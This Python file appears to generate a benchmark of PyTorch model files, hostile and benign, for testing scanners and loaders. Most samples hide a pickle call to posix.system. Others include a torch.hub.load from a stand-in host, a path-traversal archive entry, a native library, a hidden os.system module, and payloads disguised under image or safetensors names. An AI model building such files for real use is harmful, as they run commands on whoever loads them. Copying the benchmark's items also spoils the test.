"""PyTorch files: zip, raw legacy stream, legacy tar, other archives that hold pickles.

Source of the layouts: torch/serialization.py (_save, _legacy_save, legacy_load).
"""

from __future__ import annotations

import pickle
import random
import struct
from collections.abc import Iterator

from bench.corpus.unit import COMMAND, Family, Unit
from bench.corpus.writers import binaries, safetensors, tars, zips
from bench.corpus.writers import opcodes as op

TORCH = Family("torch", "torch.load(weights_only=False)")
RUN = op.call(op.name("posix", "system"), op.long_text(COMMAND))
MAGIC = 0x1950A86A20F9469CFC6C
SHAPES = {"embed.weight": (16, 8), "fc.weight": (8, 8), "fc.bias": (8,)}


def tensor(
    key: int, shape: tuple[int, ...], *, legacy: bool = False, kind: str = "FloatStorage"
) -> bytes:
    """`_rebuild_tensor_v2` over a storage named by persistent id."""
    count = 1
    for size in shape:
        count *= size
    strides: list[int] = []
    step = 1
    for size in reversed(shape):
        strides.insert(0, step)
        step *= size
    pid = [
        op.long_text("storage"),
        op.name("torch", kind),
        op.long_text(str(key)),
        op.long_text("cpu"),
    ]
    pid.append(op.integer(count))
    if legacy:
        pid.append(op.NONE)
    parts = [op.pack_tuple(pid) + b"Q", op.integer(0), op.pack_tuple(map(op.integer, shape))]
    parts += [op.pack_tuple(map(op.integer, strides)), b"\x89"]
    parts.append(op.call(op.name("collections", "OrderedDict")))
    return op.call(op.name("torch._utils", "_rebuild_tensor_v2"), *parts)


def state_dict(extra: bytes = b"", *, legacy: bool = False) -> bytes:
    """An OrderedDict of the sample tensors; `extra` pushes one more key and value."""
    items = [
        (op.long_text(name), tensor(key, shape, legacy=legacy))
        for key, (name, shape) in enumerate(SHAPES.items())
    ]
    made = op.call(op.name("collections", "OrderedDict"))
    return made + op.MARK + b"".join(a + b for a, b in items) + extra + b"u"


def storages(rng: random.Random) -> dict[str, bytes]:
    sizes = (128, 64, 8)
    return {f"data/{key}": safetensors.floats(rng, size) for key, size in enumerate(sizes)}


def zipped(rng: random.Random, body: bytes, root: str = "archive", **more: bytes) -> bytes:
    files = {"data.pkl": op.pickle2(body), "byteorder": b"little", **storages(rng)}
    extra = {name.replace("__", "/"): value for name, value in more.items()}
    return zips.torch_zip(
        {**files, **extra, "version": b"3\n", ".data/serialization_id": b"1" * 40}, root
    )


def legacy(rng: random.Random, body: bytes, tail: bytes = b"") -> bytes:
    """Magic, protocol, system facts, the object, storage keys, then raw storages."""
    sizes = {"short": 2, "int": 4, "long": 4}
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": sizes}
    keys = [str(key) for key in range(3)]
    out = b"".join(pickle.dumps(one, 2) for one in (MAGIC, 1001, system)) + op.pickle2(body)
    out += pickle.dumps(keys, 2)
    for data in storages(rng).values():
        out += struct.pack("<q", len(data) // 4) + data
    return out + tail


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _zip_hostile(rng)
    yield from _legacy_hostile(rng)
    yield from _other_hostile(rng)
    yield from _honest(rng)


def _zip_hostile(rng: random.Random) -> Iterator[Unit]:
    hook = op.long_text("optimizer") + RUN
    yield TORCH.bad("zip", "value", {"pytorch_model.bin": zipped(rng, state_dict(hook))})
    yield TORCH.bad("zip", "before", {"model.pt": zipped(rng, RUN + b"0" + state_dict())})
    yield TORCH.bad("zip", "after", {"model.pth": zipped(rng, state_dict() + RUN + b"0")})
    pid = (
        op.pack_tuple([op.long_text("storage"), RUN, op.long_text("0"), op.long_text("cpu")]) + b"Q"
    )
    yield TORCH.bad("zip", "in-persistent-id", {"model.bin": zipped(rng, pid)})
    rebuild = op.call(
        op.name("torch._tensor", "_rebuild_from_type_v2"),
        op.name("posix", "system"),
        op.name("builtins", "object"),
        op.pack_tuple([op.long_text(COMMAND)]),
        op.NONE,
    )
    yield TORCH.bad("zip", "rebuild-from-type", {"model.ckpt": zipped(rng, rebuild, "model")})
    load = op.call(
        op.name("torch.hub", "load"), op.long_text("example.invalid/x"), op.long_text("m")
    )
    yield TORCH.bad(
        "zip", "hub-load", {"model.ckpt": zipped(rng, state_dict(op.long_text("h") + load))}
    )
    checkpoint = op.pack_dict(
        [
            (op.long_text("epoch"), op.integer(3)),
            (op.long_text("state_dict"), state_dict()),
            (op.long_text("callbacks"), op.pack_dict([(op.long_text("ModelCheckpoint"), RUN)])),
        ]
    )
    yield TORCH.bad("zip", "lightning", {"last.ckpt": zipped(rng, checkpoint, "last")})
    files = {"archive/data.pkl": op.pickle2(state_dict(hook)), "archive/version": b"3"}
    yield TORCH.bad(
        "zip",
        "deflated",
        {
            "model.bin": zips.pack(
                files | {f"archive/{k}": v for k, v in storages(rng).items()}, zips.DEFLATED
            )
        },
    )
    yield TORCH.bad("zip", "renamed-png", {"logo.png": zipped(rng, state_dict(hook))})
    yield TORCH.bad(
        "zip", "renamed-safetensors", {"model.safetensors": zipped(rng, state_dict(hook))}
    )


def _legacy_hostile(rng: random.Random) -> Iterator[Unit]:
    hook = op.long_text("meta") + RUN
    yield TORCH.bad(
        "legacy", "value", {"pytorch_model.bin": legacy(rng, state_dict(hook, legacy=True))}
    )
    first = op.pickle2(RUN) + legacy(rng, state_dict(legacy=True))
    yield TORCH.bad("legacy", "in-magic", {"model.pt": first})
    out = legacy(rng, state_dict(legacy=True))
    magic = pickle.dumps(MAGIC, 2)
    system = magic + pickle.dumps(1001, 2) + op.pickle2(RUN) + out[len(magic) :]
    yield TORCH.bad("legacy", "in-system", {"model.pt": system})
    keys = pickle.dumps(["0", "1", "2"], 2)
    hostile = op.pickle2(op.value(["0", "1", "2"]) + RUN + b"0")
    yield TORCH.bad("legacy", "in-keys", {"model.pth": out.replace(keys, hostile)})
    yield TORCH.bad(
        "legacy", "bare-pickle", {"pytorch_model.bin": op.pickle2(RUN + b"0" + state_dict())}
    )
    plain = op.pickle2(RUN)
    yield TORCH.bad("legacy", "bare-call", {"model.pt": plain})
    entries = [
        tars.Entry("sys_info", pickle.dumps({"protocol_version": 1000}, 2)),
        tars.Entry("storages", pickle.dumps(0, 2)),
        tars.Entry("tensors", pickle.dumps(0, 2)),
        tars.Entry("pickle", op.pickle2(RUN)),
    ]
    yield TORCH.bad("legacy-tar", "pickle-member", {"model.pth.tar": tars.archive(entries)})
    entries[1] = tars.Entry("storages", op.pickle2(RUN))
    entries[3] = tars.Entry("pickle", op.pickle2(op.EMPTY_DICT))
    yield TORCH.bad("legacy-tar", "storages-member", {"model.pth": tars.archive(entries)})
    entries[1] = tars.Entry("storages", pickle.dumps(1, 2) + op.pickle2(RUN))
    yield TORCH.bad("legacy-tar", "later-storage", {"weights.t7": tars.archive(entries)})


def _other_hostile(rng: random.Random) -> Iterator[Unit]:
    root = "model"
    pt2 = {
        "archive_format": b"pt2",
        "archive_version": b"0",
        "byteorder": b"little",
        "models/model.json": b'{"graph_module": {"graph": {"inputs": [], "nodes": []}}}',
    }
    native = {"data/aotinductor/model/cmodel.so": binaries.elf(b"popen", b"AOTInductorModelRun")}
    load = "torch._inductor.aoti_load_package"
    yield TORCH.bad(
        "pt2-native",
        "so",
        {"model.pt2": zips.torch_zip(pt2 | native, root)},
        loader=load,
        payload="loads the native library",
        expect="suspicious",
    )
    hostile = {"data/weights/weight_0": op.pickle2(RUN)}
    yield TORCH.bad(
        "pt2-pickle",
        "weight",
        {"model.pt2": zips.torch_zip(pt2 | hostile, root)},
        loader="torch.export.load",
    )
    constant = {"data/constants/custom_obj_0": op.pickle2(RUN)}
    yield TORCH.bad(
        "pt2-pickle",
        "constant",
        {"model.pt2": zips.torch_zip(pt2 | constant, root)},
        loader="torch.export.load",
    )
    sample = {"data/sample_inputs/model.pt": zipped(rng, RUN)}
    yield TORCH.bad(
        "pt2-pickle",
        "sample-inputs",
        {"model.pt2": zips.torch_zip(pt2 | sample, root)},
        loader="torch.export.load",
    )
    slip = {"data/aotinductor/../../../../tmp/x.so": binaries.elf(b"x")}
    yield TORCH.bad(
        "pt2-native",
        "slip",
        {"model.pt2": zips.torch_zip(pt2 | slip, root)},
        loader=load,
        payload="writes outside the package",
    )
    package = {
        ".data/version": b"6\n",
        ".data/extern_modules": b"os\n",
        "model/model.pkl": op.pickle2(RUN),
        "hidden/__init__.py": f"import os\nos.system('{COMMAND}')\n".encode(),
    }
    yield TORCH.bad(
        "torch-package",
        "pickle",
        {"model.pt": zips.torch_zip(package, root)},
        loader="torch.package.PackageImporter",
    )
    package["model/model.pkl"] = op.pickle2(op.call(op.name("hidden", "Model")))
    yield TORCH.bad(
        "torch-package",
        "source",
        {"model.pt": zips.torch_zip(package, root)},
        loader="torch.package.PackageImporter",
    )
    training = op.call(
        op.name("transformers.training_args", "TrainingArguments"), op.long_text("out")
    )
    yield TORCH.bad(
        "zip", "training-args", {"training_args.bin": zipped(rng, training + RUN + b"\x86")}
    )


def _honest(rng: random.Random) -> Iterator[Unit]:
    yield TORCH.good("zip", "state-dict", {"pytorch_model.bin": zipped(rng, state_dict())})
    yield TORCH.good("zip", "named-root", {"model.pt": zipped(rng, state_dict(), "resnet18")})
    parameter = op.call(
        op.name("torch._utils", "_rebuild_parameter"),
        tensor(0, (16, 8)),
        b"\x88",
        op.call(op.name("collections", "OrderedDict")),
    )
    yield TORCH.good("zip", "parameter", {"embedding.pt": zipped(rng, parameter)})
    optimizer = op.value(
        {"state": {}, "param_groups": [{"lr": 1e-3, "betas": (0.9, 0.999), "params": [0]}]}
    )
    checkpoint = [(op.long_text("epoch"), op.integer(9)), (op.long_text("optimizer"), optimizer)]
    checkpoint += [
        (op.long_text("model"), state_dict()),
        (op.long_text("args"), op.value({"seed": 1})),
    ]
    yield TORCH.good("zip", "checkpoint", {"checkpoint.pth": zipped(rng, op.pack_dict(checkpoint))})
    for kind, rows in (("HalfStorage", 32), ("BFloat16Storage", 32), ("LongStorage", 8)):
        body = zipped(rng, tensor(0, (rows, 8), kind=kind))
        yield TORCH.good("zip", kind.lower(), {"model.bin": body})
    meta = op.call(op.name("torch", "device"), op.long_text("cpu"))
    yield TORCH.good(
        "zip", "device", {"meta.pt": zipped(rng, op.pack_dict([(op.long_text("d"), meta)]))}
    )
    size = op.call(op.name("torch", "Size"), op.pack_list([op.integer(2), op.integer(3)]))
    yield TORCH.good("zip", "size", {"shape.pt": zipped(rng, size)})
    yield TORCH.good(
        "legacy", "state-dict", {"pytorch_model.bin": legacy(rng, state_dict(legacy=True))}
    )
    yield TORCH.good(
        "legacy",
        "list",
        {
            "vectors.pt": legacy(
                rng, op.pack_list(tensor(k, s, legacy=True) for k, s in enumerate(SHAPES.values()))
            )
        },
    )
    entries = [
        tars.Entry("sys_info", pickle.dumps({"protocol_version": 1000}, 2)),
        tars.Entry("storages", pickle.dumps(0, 2)),
        tars.Entry("tensors", pickle.dumps(0, 2)),
        tars.Entry("pickle", pickle.dumps({"epoch": 1}, 2)),
    ]
    yield TORCH.good("legacy-tar", "plain", {"model.pth.tar": tars.archive(entries)})
    sharded = {
        "pytorch_model-00001-of-00002.bin": zipped(rng, state_dict()),
        "pytorch_model-00002-of-00002.bin": zipped(rng, state_dict()),
        "pytorch_model.bin.index.json": {
            "metadata": {"total_size": 1600},
            "weight_map": dict.fromkeys(SHAPES, "pytorch_model-00001-of-00002.bin"),
        },
    }
    yield TORCH.good("zip", "sharded", sharded)
    scheduler = op.pickle2(op.value({"last_epoch": 3, "_step_count": 4, "_last_lr": [0.001]}))
    yield TORCH.good(
        "zip",
        "scheduler",
        {"scheduler.pt": zips.torch_zip({"data.pkl": scheduler, "version": b"3\n"}, "scheduler")},
    )
